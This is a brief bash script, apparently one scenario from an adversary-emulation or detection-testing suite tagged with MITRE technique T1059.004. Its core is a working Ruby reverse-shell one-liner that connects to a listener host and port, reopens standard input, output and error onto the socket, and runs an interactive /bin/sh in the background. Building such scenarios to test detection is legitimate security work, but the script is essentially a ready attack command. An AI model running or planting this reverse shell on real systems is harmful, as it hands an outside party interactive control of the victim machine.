#!/usr/bin/env bash
# Reverse shell: Ruby (TCPSocket reopened onto stdin/stdout/stderr, then exec /bin/sh -i).
. "$(dirname "$0")/../lib.sh"
scn_begin revshell-ruby T1059.004
scn_require ruby
scn_attacker_listen 4452
ruby -rsocket -e 's=TCPSocket.new(ARGV[0],ARGV[1].to_i);$stdin.reopen(s);$stdout.reopen(s);$stderr.reopen(s);exec("/bin/sh","-i")' "$SCN_PEER" "$SCN_PORT" 2>/dev/null &
scn_track $!
scn_shell_finish
